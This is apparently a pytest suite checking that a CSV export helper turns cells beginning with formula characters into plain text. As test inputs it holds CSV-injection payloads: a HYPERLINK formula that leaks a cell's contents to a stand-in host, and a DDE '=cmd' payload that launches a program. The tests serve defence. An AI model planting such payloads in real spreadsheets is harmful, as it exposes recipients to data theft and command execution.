"""CSV exports never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import io

import pytest

from appliance.csvsafe import safe_cell, write_csv


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://x/?"&A1)', "+33 6 12", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+1"],
)
def test_cells_a_spreadsheet_would_run_are_made_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Léa", "Dupont-Léger", "a=b", "élève@école.fr", "", "1er"])
def test_ordinary_cells_are_kept(value):
    assert safe_cell(value) == value


def test_numbers_and_none():
    assert safe_cell(None) == "" and safe_cell(-3) == "-3" and safe_cell(2.5) == "2.5"
    assert safe_cell(True) == "1"


def test_write_csv_reads_back_with_every_cell_neutralised():
    data = write_csv(
        ["nom", "prenom"], [["=cmd|' /C calc'!A0", "Léa"], ["Martin; Jr", "-1"], [None, 7]]
    )
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [
        ["nom", "prenom"],
        ["'=cmd|' /C calc'!A0", "Léa"],
        ["Martin; Jr", "'-1"],
        ["", "7"],
    ]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
